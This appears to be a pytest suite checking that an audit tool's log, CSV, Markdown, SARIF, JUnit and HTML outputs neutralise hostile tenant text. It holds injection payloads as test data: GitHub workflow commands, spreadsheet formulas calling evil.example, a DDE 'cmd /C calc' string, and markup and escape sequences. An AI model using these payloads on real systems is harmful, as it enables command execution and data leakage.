"""Hostile text in what people and tools read (issue 14, items 6 and 14).

Names a tenant chooses (display names, policy names, a recorded answer's subjects and values)
and the organisation's own records reach the Actions log (stderr), matrix.csv, report.md (the
job summary), junit.xml, results.sarif and report.html. Each writer must keep them inert: no
workflow command in the log, no formula in a spreadsheet, no link, image, HTML or @mention in
the summary, well-formed XML. And the log says no secret the run knows, whatever line it is in.

The end-to-end run is a real `commsaudit audit`: a recorded Microsoft 365 tenant served by the
sandbox on 127.0.0.1, recorded AWS sections replayed, and an attestations file, every one of
them carrying the payloads below.
"""

from __future__ import annotations

import csv
import datetime as dt
import html.parser
import io
import json
import logging
import re
import shutil
import signal
import xml.etree.ElementTree as ET
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import cmarkgfm  # GitHub's own cmark-gfm (installed with compliance-trestle, a test extra)
import pytest
from cmarkgfm.cmark import Options
from rich.console import Console

from auditor.policy import load_policies
from auditor.reports import junit, markdown, matrix, sarif, terminal
from auditor.reports.common import ReportInput
from auditor.resources import policies_dir
from auditor.results import Evidence, Result, Results, RunInfo
from connectors.m365.sandbox.server import Sandbox

from helpers import REPO, run_cli

PUBLISHED_TENANT = REPO / "tests" / "data" / "m365-published" / "base"
RECORDED_AWS = REPO / "fixtures" / "demo" / "contoso-health" / "recorded-sections.json"
BREAK_GLASS = "breakglass01@northwindclinic.onmicrosoft.com"
AWS_SUBJECT = "123456789012/us-east-1"

# Everything a name can carry that a reader of the output would act on.
WORKFLOW = (
    "::error title=pwned::from the tenant\n::add-mask::commsaudit\r::stop-commands::halt\n"
    "  ::warning::indented ##[warning]old form"
)
FORMULA = '=HYPERLINK("https://evil.example/?leak","open")'
MARKUP = (
    "[click](https://evil.example/a) ![pixel](https://evil.example/p.png) "
    "<https://evil.example/auto> <b>bold</b><img src=x> @octocat www.evil.example "
    "https://evil.example/bare mail@evil.example |a|b| `tick ``` fence ~~~ tilde"
)
CONTROL = "\x00\x1b]8;;https://evil.example\x07\x1b[31mred\x7f\x85\u2028end"
PAYLOAD = f"{WORKFLOW} {FORMULA} {MARKUP} {CONTROL}"

# Secrets this run knows: one by its variable's name, one named in [evidence] secret_env.
ENV_SECRET = "Tok3n-From-The-Environment-5521"
CONFIG_SECRET = "Clinic-Portal-PIN-73916402"


def _replace(value: Any, old: str, new: str) -> Any:
    if isinstance(value, str):
        return value.replace(old, new)
    if isinstance(value, list):
        return [_replace(v, old, new) for v in value]
    if isinstance(value, dict):
        return {k: _replace(v, old, new) for k, v in value.items()}
    return value


def _hostile_aws(into: Path) -> None:
    """The demo's recorded AWS account with a hostile region subject, configuration set name
    and TLS policy value, and one section recorded as failed for a hostile reason."""
    recorded = json.loads(RECORDED_AWS.read_text(encoding="utf-8"))
    recorded = _replace(recorded, AWS_SUBJECT, f"{AWS_SUBJECT} {ENV_SECRET} {PAYLOAD}")
    for section in recorded["sections"]:
        if section["name"] == "aws.ses.configuration_sets":
            configuration_set = section["data"]["configuration_sets"][0]
            configuration_set["name"] = PAYLOAD
            configuration_set["tls_policy"] = PAYLOAD
        elif section["name"] == "aws.ses.event_destinations":
            section["status"] = "error"
            section["reason"] = PAYLOAD
            section["data"] = None
    into.write_text(json.dumps(recorded), encoding="utf-8")


def _hostile_tenant(into: Path) -> Path:
    """The published tenant with a hostile mailbox name that bypasses auditing and a hostile,
    turned-off retention policy."""
    shutil.copytree(PUBLISHED_TENANT, into, ignore=shutil.ignore_patterns("provenance.toml"))
    bypass = into / "exo" / "Get-MailboxAuditBypassAssociation.json"
    accounts = json.loads(bypass.read_text(encoding="utf-8"))
    accounts[1].update(Identity=PAYLOAD, Name=PAYLOAD, AuditBypassEnabled=True)
    bypass.write_text(json.dumps(accounts), encoding="utf-8")
    retention = into / "compliance" / "Get-RetentionCompliancePolicy.json"
    policies = json.loads(retention.read_text(encoding="utf-8"))
    policies[1].update(Name=PAYLOAD, Enabled=False)
    retention.write_text(json.dumps(policies), encoding="utf-8")
    return into


def _attestations(today: dt.date) -> dict[str, Any]:
    # JSON is YAML: the escapes carry the line breaks without raw control bytes in the file.
    return {
        "format": "commsaudit/attestations/v1",
        "organisation": f"Clinic {CONFIG_SECRET}\n::warning::organisation [x](https://evil.example/o)",
        "business_associate_agreements": [
            {
                "vendor": "aws",
                "name": FORMULA,
                "services": ["*"],
                "signed": (today - dt.timedelta(days=100)).isoformat(),
                "document": "@SUM(1+1)",
            }
        ],
    }


@dataclass
class HostileRun:
    out: Path
    returncode: int
    stdout: str
    stderr: str


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory: pytest.TempPathFactory) -> Iterator[HostileRun]:
    work = tmp_path_factory.mktemp("hostile-output")
    _hostile_aws(work / "recorded.json")
    (work / "attestations.json").write_text(
        json.dumps(_attestations(dt.date.today())), encoding="utf-8"
    )
    tenant = _hostile_tenant(work / "tenant")
    with Sandbox(tenant) as served:
        config = work / "commsaudit.toml"
        config.write_text(
            served.config_toml("client-secret")
            + f'break_glass_accounts = ["{BREAK_GLASS}"]\n'
            + '[attestations]\nfile = "attestations.json"\n'
            + '[replay]\nfiles = ["recorded.json"]\n'
            + '[evidence]\nout = "out"\nsecret_env = ["CLINIC_PORTAL_PIN"]\n',
            encoding="utf-8",
        )
        env = {
            **served.environment(),
            "HOSTILE_API_TOKEN": ENV_SECRET,
            "CLINIC_PORTAL_PIN": CONFIG_SECRET,
        }
        proc = run_cli("audit", "--config", config, "-v", cwd=work, env=env)
    assert proc.returncode == 1, proc.stderr[-3000:]
    yield HostileRun(work / "out", proc.returncode, proc.stdout, proc.stderr)


# -- what each output must look like ----------------------------------------------------------

_FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n", "\x00", "＝", "＋", "－", "＠")
_FENCES = ("```", "~~~")


def _workflow_commands(log: str) -> list[str]:
    """Lines GitHub's runner would run as workflow commands: `::` after leading white space
    (the runner trims it), or the old `##[` form anywhere in the line. The runner splits lines at
    CR and LF; so does this, and at every other line break Python knows, to be stricter."""
    return [line for line in log.splitlines() if line.lstrip().startswith("::") or "##[" in line]


class _Rendered(html.parser.HTMLParser):
    """Tags, link targets and the text outside code and links of an HTML page."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.targets: list[str] = []
        self.text: list[str] = []
        self._inert = 0

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.targets.extend(v or "" for k, v in attrs if k in ("href", "src", "srcset"))
        if tag in ("code", "pre", "a"):
            self._inert += 1

    def handle_endtag(self, tag: str) -> None:
        if tag in ("code", "pre", "a"):
            self._inert -= 1

    def handle_data(self, data: str) -> None:
        if not self._inert:
            self.text.append(data)


def _parsed_html(page: str) -> _Rendered:
    parser = _Rendered()
    parser.feed(page)
    parser.close()
    return parser


def _as_github_renders(text: str) -> _Rendered:
    """report.md as GitHub renders a job summary: cmark-gfm with its extensions (tables,
    autolinks), raw HTML passed on (GitHub then allows <b>, <img>, <a> …)."""
    page = cmarkgfm.github_flavored_markdown_to_html(text, options=Options.CMARK_OPT_UNSAFE)
    return _parsed_html(page)


def _assert_inert_markdown(text: str) -> None:
    rendered = _as_github_renders(text)
    assert [t for t in rendered.targets if "evil" in t] == []
    assert {"img", "b", "script", "iframe"}.isdisjoint(rendered.tags)
    # The report's own toggles (the matrix, every result) are the only ones: none from data.
    ours = text.splitlines().count("<details>")
    assert rendered.tags.count("details") == ours
    # GitHub turns @name into a mention (a link, a notification) outside code and links.
    mentions = re.findall(r"@[A-Za-z0-9]", "".join(rendered.text))
    assert mentions == []


def _table_rows(text: str, header: str) -> list[str]:
    lines = text.splitlines()
    start = lines.index(header)
    rows = []
    for line in lines[start + 2 :]:
        if not line.startswith("|"):
            break
        rows.append(line)
    return rows


def _cells(row: str) -> int:
    """How many cells GFM sees in a table row: pipes not escaped with a backslash."""
    return len(re.findall(r"(?<!\\)\|", row)) - 1


# -- item 6: the log says no secret -----------------------------------------------------------


def test_the_terminal_summary_and_log_pass_the_runs_redactor(hostile_run: HostileRun) -> None:
    """The summary names subjects that carry an environment secret and a `secret_env` value:
    the log shows neither, and says where they were."""
    assert ENV_SECRET not in hostile_run.stderr
    assert CONFIG_SECRET not in hostile_run.stderr
    assert "[REDACTED]" in hostile_run.stderr
    for name in ("report.md", "junit.xml", "matrix.csv", "results.sarif", "report.html"):
        written = (hostile_run.out / name).read_text(encoding="utf-8")
        assert ENV_SECRET not in written and CONFIG_SECRET not in written, name


def _secret_snapshot(work: Path) -> tuple[Path, Path]:
    """The recorded AWS account as a snapshot whose region subject holds a `secret_env` value,
    and the config that names the variable."""
    recorded = json.loads(RECORDED_AWS.read_text(encoding="utf-8"))
    recorded = _replace(recorded, AWS_SUBJECT, f"{AWS_SUBJECT} {CONFIG_SECRET}")
    snapshot = work / "snapshot.json"
    snapshot.write_text(json.dumps(recorded), encoding="utf-8")
    config = work / "commsaudit.toml"
    config.write_text('[evidence]\nsecret_env = ["CLINIC_PORTAL_PIN"]\n', encoding="utf-8")
    return snapshot, config


def test_evaluate_summary_hides_secret_env_values(tmp_path: Path) -> None:
    snapshot, config = _secret_snapshot(tmp_path)
    proc = run_cli(
        "evaluate", snapshot, "--config", config, cwd=tmp_path,
        env={"CLINIC_PORTAL_PIN": CONFIG_SECRET},
    )  # fmt: skip
    assert proc.returncode == 1, proc.stderr[-2000:]
    assert CONFIG_SECRET not in proc.stderr
    assert f"{AWS_SUBJECT} [REDACTED]" in proc.stderr


@pytest.fixture()
def restored_process_state() -> Iterator[None]:
    """`cli.main` installs its log handler and a SIGTERM handler: put both back."""
    root = logging.getLogger()
    handlers, level = root.handlers[:], root.level
    sigterm = signal.getsignal(signal.SIGTERM)
    try:
        yield
    finally:
        root.handlers[:] = handlers
        root.setLevel(level)
        signal.signal(signal.SIGTERM, sigterm)


def test_log_records_hide_the_configs_secret_env_values(
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
    restored_process_state: None,
) -> None:
    """Once a command has read the config, every log record is scrubbed of its `secret_env`
    values too, not only of the environment's secrets."""
    from auditor import cli

    snapshot, config = _secret_snapshot(tmp_path)
    monkeypatch.setenv("CLINIC_PORTAL_PIN", CONFIG_SECRET)
    monkeypatch.setenv("NO_COLOR", "1")
    assert cli.main(["evaluate", str(snapshot), "--config", str(config)]) == 1
    logging.getLogger("connectors.test").warning("could not read %s", f"x {CONFIG_SECRET} y")
    log = capsys.readouterr().err
    assert "could not read x [REDACTED] y" in log
    assert CONFIG_SECRET not in log


# -- item 14: each writer keeps tenant text inert ---------------------------------------------


def test_no_log_line_is_a_workflow_command(hostile_run: HostileRun) -> None:
    log = hostile_run.stderr
    assert "pwned" in log  # the payload was shown, and is shown inert
    assert _workflow_commands(log) == []
    # When the audit cannot run, the action puts the log's tail in a code fence in the job
    # summary: no line may close it.
    assert [line for line in log.splitlines() if line.lstrip().startswith(_FENCES)] == []
    # No terminal control either: no escape sequence, no bell, no carriage return.
    assert re.findall(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]", log) == []


@pytest.mark.parametrize("name", ["matrix.csv", "findings.csv"])
def test_csv_cells_never_start_a_formula(hostile_run: HostileRun, name: str) -> None:
    text = (hostile_run.out / name).read_text(encoding="utf-8")
    rows = list(csv.reader(io.StringIO(text)))
    assert len({len(row) for row in rows}) == 1  # still one table, parseable
    cells = [cell for row in rows for cell in row]
    assert [c for c in cells if c.lstrip(" ").startswith(_FORMULA_START)] == []
    assert any("HYPERLINK" in c for c in cells)  # the payload is kept, as text
    if name == "matrix.csv":  # where a cell starts with it: quoted, not dropped
        assert any(c.startswith("'=HYPERLINK") for c in cells)


def test_report_md_has_no_live_link_image_html_or_mention(hostile_run: HostileRun) -> None:
    text = (hostile_run.out / "report.md").read_text(encoding="utf-8")
    assert "pwned" in text
    _assert_inert_markdown(text)
    # Pipes in names stay inside their cell: every row of a table has the header's cells.
    for header in (
        "| Status | Control | Subject | Severity | Citations |",
        "| Citation | Requirement | Kind | Responsibility | Controls | Inherited from |",
    ):
        rows = _table_rows(text, header)
        assert rows and {_cells(row) for row in rows} == {_cells(header)}, header


def test_oscal_titles_and_descriptions_are_inert_markdown(hostile_run: HostileRun) -> None:
    # OSCAL's titles and descriptions are Markdown: a viewer renders them.
    bundle = next(hostile_run.out.glob("*.zip"))
    with zipfile.ZipFile(bundle) as archive:
        document = json.loads(archive.read("oscal/assessment-results.json"))
    marked: list[str] = []

    def walk(node: object) -> None:
        if isinstance(node, dict):
            for key, value in node.items():
                if key in ("title", "description", "remarks") and isinstance(value, str):
                    marked.append(value)
                else:
                    walk(value)
        elif isinstance(node, list):
            for item in node:
                walk(item)

    walk(document)
    payloads = [m for m in marked if "evil" in m]
    assert payloads  # the hostile names did reach the document, as text
    for text in payloads:
        _assert_inert_markdown(text)


def test_junit_is_well_formed(hostile_run: HostileRun) -> None:
    tree = ET.parse(hostile_run.out / "junit.xml")
    names = [case.get("name", "") for case in tree.iter("testcase")]
    assert any("pwned" in name for name in names)


def test_sarif_messages_carry_no_embedded_link(hostile_run: HostileRun) -> None:
    """SARIF's plain-text messages may hold links, `[text](target)` (SARIF 2.1.0, 3.11.6);
    literal brackets are escaped with a backslash."""
    document = json.loads((hostile_run.out / "results.sarif").read_text(encoding="utf-8"))
    texts = [r["message"]["text"] for run in document["runs"] for r in run["results"]]
    assert any("pwned" in t for t in texts)
    assert [t for t in texts if re.search(r"(?<!\\)\[[^\]]*(?<!\\)\]\(", t)] == []


def test_report_html_shows_names_as_text(hostile_run: HostileRun) -> None:
    """Jinja2 autoescapes every template: the names show as text. Control characters (an
    escape sequence, a NUL) are not passed on either."""
    page = (hostile_run.out / "report.html").read_text(encoding="utf-8")
    rendered = _parsed_html(page)
    assert "pwned" in page and "&lt;b&gt;bold&lt;/b&gt;" in page and "<b>bold" not in page
    assert [t for t in rendered.targets if "evil" in t] == []
    assert {"img", "script", "iframe"}.isdisjoint(rendered.tags)
    assert re.findall(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]", page) == []


# -- the writers on their own -----------------------------------------------------------------


def _report(results: list[Result], warnings: list[str] | None = None) -> ReportInput:
    run = RunInfo(
        id="00000000-0000-4000-8000-000000000000",
        started_at="2026-01-01T00:00:00Z",
        finished_at="2026-01-01T00:00:01Z",
        tool_version="0",
        profile="hipaa",
        policy_digest="0" * 64,
        evaluated_at="2026-01-01T00:00:00Z",
        validator="jsonschema",
        warnings=warnings or [],
    )
    return ReportInput(
        results=Results(run=run, results=results), policies=load_policies([policies_dir()])
    )


def _failure(subject: str, reason: str, **evidence: Any) -> Result:
    return Result(
        control="aws.ses.tls-required",
        subject=subject,
        status="fail",
        severity="high",
        responsibility="customer",
        citations=["164.312(e)(1)"],
        title="TLS required",
        category="transport-security",
        platform="aws",
        reason=reason,
        evidence=[
            Evidence(
                source=evidence.get("source", "aws:sesv2"),
                section="aws.ses.configuration_sets",
                pointer=evidence.get("pointer", "/configuration_sets/0/tls_policy"),
                value=evidence.get("value", "OPTIONAL"),
                collected_at=None,
                message=evidence.get("message"),
                context=evidence.get("context"),
                context_pointer="/configuration_sets/0" if "context" in evidence else None,
            )
        ],
    )


def test_a_wrapped_line_never_starts_with_a_command(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """The summary wraps long reasons: a command deep in a reason, on its own no line's start,
    must not become one after the wrap (the runner trims the indent before it looks)."""
    monkeypatch.setenv("COLUMNS", "60")
    words = "the reason goes on " * 3
    reason = f"{words}::error::wrapped ##[warning]split"
    place = {"name": "x " * 20 + "::add-mask::placed"}
    # The heading line wraps to the first column: at 60 columns, these subjects put a fence
    # and a command there.
    fence = "s " * 14 + "``` fenced"
    command = "s " * 5 + "``` z " + "z " * 5 + "::set-output name=x::y"
    report = _report(
        [_failure(fence, reason, context=place), _failure(command, reason, context=place)]
    )
    # The premise: wrapped as rich wraps them, these lines start with what the data put there.
    plain = io.StringIO()
    terminal.render(Console(file=plain, width=60, highlight=False), report)
    starts = [line.lstrip()[:3] for line in plain.getvalue().splitlines()]
    assert "```" in starts and "::s" in starts and "::a" in starts

    terminal.render(terminal.make_console(), report)
    log = capsys.readouterr().err
    assert "wrapped" in log and "placed" in log and "fenced" in log
    assert _workflow_commands(log) == []
    assert [line for line in log.splitlines() if line.lstrip().startswith(_FENCES)] == []


def test_log_records_never_start_a_command_line(
    capsys: pytest.CaptureFixture[str], restored_process_state: None
) -> None:
    from auditor import commands

    commands._setup_logging(0)
    logging.getLogger("commsaudit.test").warning("bad name %s", "x\n::error::from a log\r::y::z")
    log = capsys.readouterr().err
    assert "from a log" in log
    assert _workflow_commands(log) == []


def test_markdown_writer_escapes_every_construct() -> None:
    warning = f"policy {MARKUP}"
    result = _failure(
        f"subject {MARKUP}",
        f"# heading\n- list {MARKUP}",
        source=f"src `{MARKUP}",
        message=f"msg {MARKUP}",
    )
    text = markdown.render(_report([result], warnings=[warning, "- 1. [x](https://evil.example)"]))
    _assert_inert_markdown(text)
    # One reason, one paragraph: no heading or list made from data.
    rendered = _as_github_renders(text)
    assert rendered.tags.count("h1") == 1


def test_csv_writer_prefixes_every_formula_start() -> None:
    rows = [
        matrix.MatrixRow(
            citation=start + "1+1",
            requirement=f"{start}cmd|' /C calc'!A0",
            kind="",
            safeguard="Other",
            inherited_evidence=[f" {start}SUM(1)"],
        )
        for start in _FORMULA_START
    ]
    parsed = list(csv.reader(io.StringIO(matrix.to_csv(rows))))
    assert len(parsed) == len(rows) + 1
    cells = [cell for row in parsed[1:] for cell in row]
    assert [c for c in cells if c.lstrip(" ").startswith(_FORMULA_START)] == []


def test_junit_writer_keeps_xml_well_formed() -> None:
    hostile = "a\x00b\x1bc\x0bd\ufffee\ud800f\U0001f600g]]>h"
    result = _failure(hostile, hostile, message=hostile)
    document = junit.render(_report([result]))
    root = ET.fromstring(document.encode("utf-8"))
    case = next(root.iter("testcase"))
    assert "\U0001f600g]]>h" in case.get("name", "")


def test_sarif_writer_escapes_brackets_in_plain_text() -> None:
    result = _failure("[s](https://evil.example/s)", "reason [r](https://evil.example/r) \\ end")
    document = sarif.render(_report([result]))
    text = document["runs"][0]["results"][0]["message"]["text"]  # type: ignore[index]
    assert not re.search(r"(?<!\\)\[[^\]]*(?<!\\)\]\(", text)
    assert "\\[s\\](https://evil.example/s)" in text and "\\\\ end" in text
